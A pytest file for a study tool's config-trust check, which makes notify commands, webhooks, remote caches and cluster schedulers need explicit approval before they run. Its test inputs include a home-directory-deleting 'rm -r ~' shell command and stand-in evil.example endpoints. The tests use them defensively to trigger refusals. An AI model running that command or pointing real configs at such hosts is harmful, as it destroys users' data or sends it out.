"""What a database may make `resume` and `work` run beside families, operators and metrics."""

import hashlib
import sys
from pathlib import Path

import pytest

from contracts.faults import ConfigError, Untrusted
from dse.config import StudyConfig, config_from_json, differences, load_config
from dse.config.trust import hooks_of, require_trust, trust

HEAD = '[workload]\nmodel = "net.tflite"\n[study]\nname = "s"\ntrials = 1\n'
COMMAND = "python -m dse.study work s"


@pytest.fixture(autouse=True)
def _own_state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.chdir(tmp_path)
    (tmp_path / "net.tflite").write_bytes(b"net")


def study(tmp_path: Path, text: str) -> StudyConfig:
    (tmp_path / "s.toml").write_text(HEAD + text)
    return config_from_json(load_config(tmp_path / "s.toml")[1].to_json())


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ('[notify]\ncommand = ["sh", "-c", "rm -r ~"]', 'the command ["sh", "-c", "rm -r ~"]'),
        ('[notify]\nwebhook = "http://evil.example/x"', "messages to http://evil.example/x"),
        ('[cache]\nremote = "ftp://evil.example/x"', "elsewhere, from ftp://evil.example/x"),
        ('[cache]\nremote = "shared"', "elsewhere, from file://"),
        (
            'executor = "dask"\nscheduler = "tcp://evil.example:8786"',
            "trials on the cluster at tcp://evil.example:8786",
        ),
    ],
)
def test_what_would_run_is_named_whole_and_asked_about_once(
    tmp_path: Path, text: str, named: str
) -> None:
    config = study(tmp_path, text)

    with pytest.raises(Untrusted) as raised:
        require_trust(config, before={}, command=COMMAND, also=hooks_of(config))
    assert named in raised.value.what
    require_trust(config, before={}, command=COMMAND)  # `board` runs none of it
    require_trust(config, before={}, command=COMMAND, also=hooks_of(config), is_given=True)
    require_trust(config, before={}, command=COMMAND, also=hooks_of(config))


@pytest.mark.parametrize("change", ['"a b"', '"a", "b"'])
def test_other_words_are_another_command(tmp_path: Path, change: str) -> None:
    trust(hooks_of(study(tmp_path, '[notify]\ncommand = ["echo", "a"]')))
    changed = study(tmp_path, f'[notify]\ncommand = ["echo", {change}]')

    with pytest.raises(Untrusted):
        require_trust(changed, before={}, command=COMMAND, also=hooks_of(changed))


def test_a_script_is_agreed_to_with_its_content_and_a_log_is_not(tmp_path: Path) -> None:
    (tmp_path / "tell.py").write_text("1")
    (tmp_path / "told.log").write_text("")
    text = f'[notify]\ncommand = ["{sys.executable}", "tell.py", "{tmp_path}/told.log"]'
    config = study(tmp_path, text)
    trust(hooks_of(config))
    (tmp_path / "told.log").write_text("a message")
    require_trust(config, before={}, command=COMMAND, also=hooks_of(config))
    (tmp_path / "tell.py").write_text("2")

    with pytest.raises(Untrusted, match=r"tell\.py"):
        require_trust(config, before={}, command=COMMAND, also=hooks_of(config))


def test_whom_to_tell_and_where_artefacts_are_may_change(tmp_path: Path) -> None:
    before = study(tmp_path, "")
    after = study(tmp_path, '[cache]\nremote = "a"\n[notify]\ncommand = ["echo"]\non = ["stuck"]\n')

    assert differences(before, after) == ()
    assert after.job({}).cache_remote == (tmp_path / "a").as_uri()


def test_an_address_that_nothing_understands_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"\[cache\] remote is 'nothing://x'"):
        study(tmp_path, '[cache]\nremote = "nothing://x"')


def test_a_hook_is_described_by_its_words_and_its_scripts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    script = tmp_path / "tell.py"
    script.write_text("#" * 50)
    (tmp_path / "notes.txt").write_text("x")
    config = study(tmp_path, '[notify]\ncommand = ["sh", "tell.py", "notes.txt"]')
    words = 'the command ["sh", "tell.py", "notes.txt"]'

    command, found = hooks_of(config)
    assert (command.path, command.size_bytes) == (words, len(words))
    assert command.sha256 == hashlib.sha256(words.encode()).hexdigest()
    assert (found.path, found.size_bytes) == (str(script.resolve()), 50)

    (tmp_path / "notes.txt").chmod(0o755)
    assert [Path(file.path).name for file in hooks_of(config)[1:]] == ["tell.py", "notes.txt"]
    monkeypatch.setattr("dse.config.trust._MOST_BYTES", 49)
    assert [Path(file.path).name for file in hooks_of(config)[1:]] == ["notes.txt"]
    assert hooks_of(study(tmp_path, "")) == ()
